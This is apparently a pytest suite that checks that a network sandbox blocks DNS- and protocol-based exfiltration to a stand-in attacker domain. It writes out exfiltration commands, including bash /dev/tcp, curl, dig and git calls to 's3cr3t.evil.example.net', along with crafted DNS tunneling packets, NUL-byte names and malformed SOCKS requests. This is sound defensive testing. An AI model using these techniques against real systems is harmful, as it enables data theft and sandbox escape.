# SPDX-License-Identifier: Apache-2.0
"""ATTACKS C4.43-46: a name that no rule allows never leaves the machine, whoever asks for it and in whatever protocol."""

import pytest

from attack_tools import DIRECT, inside, outside, python, recorder

SECRET = "s3cr3t.evil.example.net"


@pytest.fixture
def evil(net):
    """A zone of the attacker: whatever is asked for has an address."""
    net.names["*"] = ["11.0.0.11"]
    net.save_names()
    return net


CLIENTS = {
    "getent": ["getent", "ahosts", SECRET],
    "python": ["/usr/bin/python3", "-c", f"import socket; socket.getaddrinfo('{SECRET}', 80)"],
    "curl": ["curl", "-sSf", f"http://{SECRET}/"],
    "curl https": ["curl", "-sSfk", f"https://{SECRET}/"],
    "dig": ["dig", "+short", "+tries=1", SECRET],
    "dig tcp": ["dig", "+tcp", "+short", SECRET],
    "dig txt": ["dig", "+short", "TXT", SECRET],
    "dig server": ["dig", "@11.0.0.53", "+short", SECRET],
    "dig server tcp": ["dig", "@11.0.0.53", "+tcp", "+short", SECRET],
    "host": ["host", SECRET],
    "nslookup": ["nslookup", SECRET, "11.0.0.53"],
    "bash": ["bash", "-c", f"exec 3<>/dev/tcp/{SECRET}/80 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && head -1 <&3"],
    "perl": ["perl", "-MSocket", "-e", f"inet_aton('{SECRET}') or exit 1"],
    "git": ["git", "ls-remote", f"http://{SECRET}/x.git"],
}


@pytest.mark.parametrize("client", CLIENTS)
def test_exfiltration_by_a_lookup(evil, client):
    """Claim: a lookup of a denied name does not reach the resolver; without a sandbox it does (43)."""
    evil.outside(*DIRECT, *CLIENTS[client])
    assert any(SECRET in q for q in evil.queries()), "the probe does not even ask, so it proves nothing"
    evil.forget()
    r = evil.sandbox(*DIRECT, *CLIENTS[client], allow=["ok.example.com"])
    assert b"11.0.0.11" not in r.out, r
    assert evil.queries() == [] and evil.hits() == []


ENTRANCES = ["by_dns", "by_socks", "by_connect", "by_uri"]


@pytest.mark.parametrize("entrance", ENTRANCES)
def test_exfiltration_through_the_gate(evil, entrance):
    """Claim: the gate judges the name before it looks anything up (44); what a rule allows shows that it does look up."""
    found = inside(evil, f"shown({{'no': {entrance}(b'{SECRET}'), 'yes': {entrance}(HONEST)}})", allow=["ok.example.com"])
    assert "200 OK" in found["yes"] and "200 OK" not in found["no"], found
    assert {q.split()[1] for q in evil.queries()} == {"ok.example.com"}
    assert {h["to"] for h in evil.hits()} == {"11.0.0.10"}


@pytest.mark.parametrize("entrance", ["by_host", "by_sni"])
def test_exfiltration_inside_an_allowed_connection(evil, entrance):
    """Claim: a name in a Host header or in an SNI is never looked up (44, 52)."""
    found = inside(evil, f"shown({{'no': {entrance}(b'{SECRET}'), 'yes': {entrance}(HONEST)}})", allow=["ok.example.com"])
    assert "200 OK" in found["yes"] or found["yes"] == "hello", found
    assert "200 OK" not in found["no"] and found["no"] != "hello", found
    assert not any("evil" in q for q in evil.queries())
    assert not any("evil" in str(h) for h in evil.hits())


def test_lookup_alone_asks_nobody(evil):
    """Claim: not even an allowed name is forwarded by a lookup: labels under an allowed zone carry nothing out until there is a
    connection (45)."""
    names = [b".".join([b"d" * 63, b"example.com"]), b"ok.example.com", b"0123456789abcdef.example.com"]
    found = inside(evil, f"shown({{'found': [addresses(dns(question(n))) for n in {names!r}]}})", allow=["*.example.com"])
    assert all(len(f) == 1 for f in found["found"]), found
    assert evil.queries() == []


@pytest.mark.parametrize("name", [".".join(["d" * 63] * 3 + ["example.com"]), "a.b.example.com", "d" * 64 + ".example.com",
                                  ".".join(["d" * 60] * 4 + ["example.com"])], ids=["three labels", "two labels", "long label", "long name"])
def test_wildcard_is_one_label(evil, name):
    """Claim: data cannot be packed into many labels under an allowed wildcard, by any entrance (45)."""
    ways = [f for f in ENTRANCES if f != "by_dns" or max(map(len, name.split("."))) < 64]
    found = inside(evil, f"shown({{f: globals()[f]({name.encode()!r}) for f in {ways!r}}})", allow=["*.example.com"])
    assert not any("200 OK" in answer for answer in found.values()), found
    assert evil.queries() == [] and evil.hits() == []


@pytest.mark.parametrize("server", ["11.0.0.53", "11.0.0.11", "10.0.0.5", "198.18.0.1", "2a00:11::10", "127.0.0.53"])
def test_any_name_server_is_ours(evil, server):
    """Claim: port 53 of any address is the sandbox's own name server, which asks no other, or no server at all (45)."""
    found = inside(evil, f"""
shown({{kind: [rcode(dns(question(b'{SECRET}'), {server!r}, kind == 'tcp')), len(addresses(dns(question(HONEST), {server!r}, kind == 'tcp')))]
       for kind in ('udp', 'tcp')}})
""", allow=["ok.example.com"])
    assert all(answer in ([0, 1], [None, 0]) for answer in found.values()), found
    assert evil.queries() == [] and evil.hits() == []


def test_name_server_answers_outside(evil):
    r = outside(evil, f"shown({{t: rcode(dns(question(b'{SECRET}'), '11.0.0.53', t == 'tcp')) for t in ('udp', 'tcp')}})")
    assert r.json() == {"udp": 0, "tcp": 0} and evil.queries() == [f"A {SECRET}"] * 2


PACKETS = {
    "TXT": "question(DATA, 16)",
    "NULL": "question(DATA, 10)",
    "CNAME": "question(DATA, 5)",
    "MX": "question(DATA, 15)",
    "SRV": "question(DATA, 33)",
    "HTTPS": "question(DATA, 65)",
    "ANY": "question(DATA, 255)",
    "AXFR": "question(DATA, 252)",
    "unknown type": "question(DATA, 65280)",
    "class CHAOS": "question(DATA, 16, rclass=3)",
    "opcode NOTIFY": "question(DATA, 6, opcode=4)",
    "opcode UPDATE": "question(DATA, 6, opcode=5)",
    "two questions": "question(HONEST, 1, counts=(2, 0, 0, 0), extra=question(DATA)[12:])",
    "data behind the question": "question(HONEST, 1, extra=DATA)",
    "EDNS option": "question(HONEST, 1, counts=(1, 0, 0, 1), extra=b'\\0\\0\\x29\\x04\\xd0\\0\\0\\0\\0' +"
                   " struct.pack('!HHH', len(DATA) + 4, 65001, len(DATA)) + DATA)",
    "compressed name": "question(HONEST)[:12] + b'\\x03s3c\\xc0\\x0c\\0\\1\\0\\1'",
    "pointer to itself": "question(HONEST)[:12] + b'\\xc0\\x0c\\0\\1\\0\\1'",
    "NUL in a label": "question([b'evil\\0', b'example', b'com'])",
    "dot in a label": "question([b'x.evil', b'example', b'com'])",
    "reverse": "question(b'11.0.0.11.in-addr.arpa', 12)",
    "root": "question(b'')",
    "answer instead of question": "b'\\x42\\x42\\x81\\x80' + question(DATA)[4:]",
    "header alone": "question(DATA)[:12]",
    "half a name": "question(DATA)[:20]",
}


@pytest.mark.parametrize("packet", PACKETS)
def test_other_questions_are_not_forwarded(evil, packet):
    """Claim: whatever a packet to the name server has in it, the resolver outside never sees a byte of it; the gate's name server
    answers the next question as before (43, 45)."""
    found = inside(evil, f"""
DATA = b'{SECRET}'
for tcp in {{TCP_DNS, True}}:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.connect(("198.18.0.1", 53))
    packet = {PACKETS[packet]}
    s.send(struct.pack("!H", len(packet)) + packet if tcp else packet)
    after = addresses(dns(question(HONEST), tcp=tcp))
    assert len(after) == 1, after
shown({{'reached': by_dns(HONEST)}})
""", allow=["ok.example.com", "*.example.com"])
    assert "200 OK" in found["reached"]
    assert {q.split()[1] for q in evil.queries()} == {"ok.example.com"}, "the one that was connected to, and nothing else"
    assert {q.split()[0] for q in evil.queries()} <= {"A", "AAAA"}


NUL = ["evil.example.net\0.example.com", "evil.example.net\0", "\0evil.example.net", "ok.example.com\0.evil.example.net"]


@pytest.mark.parametrize("name", NUL, ids=repr)
def test_nul_in_a_name(evil, name):
    """Claim: a NUL byte is refused by every entrance, and never cuts a name into another one (46)."""
    found = inside(evil, f"shown({{f: globals()[f]({name.encode()!r}) for f in {ENTRANCES + ['by_host', 'by_sni']!r}}})", allow=["*.example.com"])
    assert not any("200 OK" in answer or answer == "hello" for answer in found.values()), found
    assert not any("evil" in q or "\0" in q for q in evil.queries()) and evil.requests() == []
    assert not any(h["to"] == "11.0.0.11" for h in evil.hits())


@pytest.mark.parametrize("kind,name", [(3, b""), (3, b"\0"), (3, b"."), (3, b"\xff" * 255), (2, b"\x0b\0\0\x0b"), (0, b"abcd"), (255, b"abcd")])
def test_socks_nonsense(evil, kind, name):
    """Claim: a malformed SOCKS request gets nothing, and the next one is served (46)."""
    found = inside(evil, f"""
try:
    no = open_socks({name!r}, 80, {kind})
except REFUSED as e:
    no = b"refused"
shown({{'no': no if isinstance(no, bytes) else b'200 OK', 'yes': by_socks(HONEST)}})
""", allow=["*.example.com"])
    assert "200 OK" in found["yes"] and "200 OK" not in found["no"], found
    assert len(evil.requests()) == 1 and {q.split()[1] for q in evil.queries()} == {"ok.example.com"}


UDP = {"DNS": 53, "QUIC": 443, "DoQ": 853, "mDNS": 5353, "LLMNR": 5355, "NTP": 123, "high": 40000}


def test_no_udp_leaves(evil):
    """Claim: UDP reaches nobody, on any port: no QUIC, no DNS over QUIC, no multicast names; port 53 is our own name server (45, 53)."""
    addresses = ["11.0.0.10", "2a00:11::10"]
    seen = recorder(evil, *(f"udp:[{a}]:{p}" for a in addresses for p in UDP.values()), "multicast:224.0.0.251:5353", "multicast:224.0.0.252:5355")
    script = f"""
for a in {addresses!r} + ["224.0.0.251", "224.0.0.252", "255.255.255.255"]:
    for p in {list(UDP.values())!r}:
        try:
            s = socket.socket(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_DGRAM)
        except PermissionError:
            continue
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            if a.startswith("224"):
                s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("!4s4si", b"", b"", socket.if_nametoindex("up0")))
        except OSError:
            pass
        try:
            s.sendto(b"{SECRET}", (a, p))
        except OSError:
            pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("11.0.0.10", 443))
    s.send(b"last")
    print(s.recv(100))
except OSError as e:
    print(type(e).__name__)
"""
    r = outside(evil, script)
    assert r.out == b"b'got there'\n", r
    places = {(h["to"], h["port"]) for h in seen()}
    assert places >= {(a, p) for a in addresses for p in UDP.values()} | {("224.0.0.251", 5353), ("224.0.0.252", 5355)}
    before = len(seen())
    for rules in ({"allow": ["ok.example.com"]}, {"options": ["--network", "full"]}):
        r = evil.sandbox(*python(evil, script), **rules)
        assert r.out == (b"ConnectionRefusedError\n" if evil.rung == "full" else b"PermissionError\n"), r
    assert len(seen()) == before and evil.queries() == []


@pytest.mark.parametrize("word", [None, "limited"])
def test_names_over_tls(evil, word):
    """Claim: DNS over TLS (853) and DNS over HTTPS to a host in no rule are refused; `limited` has no 853 either (45)."""
    seen = recorder(evil, "tcp:11.0.0.28:853", "tcp:11.0.0.28:443")
    evil.names["doh.example.net"] = ["11.0.0.28"]
    evil.save_names()
    script = f"""
found = {{}}
for host in ("doh.example.net", "11.0.0.28"):
    for port in {(443, 853) if word is None else (853,)!r}:
        @refusable
        def ask():
            return tls_answer(socket.create_connection((host, port)), client_hello(host.encode()))
        found[host + str(port)] = ask()
shown(found)
"""
    outside(evil, script)
    assert len([h for h in seen() if "data" in h]) >= 2
    evil.forget()
    before = len(seen())
    r = evil.sandbox(*python(evil, script), **({"options": ["--network", word]} if word else {"allow": ["ok.example.com"]}))
    assert r.rc == 0, r  # the gate itself answers, to say no
    assert all(f"{host}:853".encode() in r.err and (word or f"{host}:443".encode() in r.err) for host in ("doh.example.net", "11.0.0.28")), r
    assert len(seen()) == before and evil.queries() == []
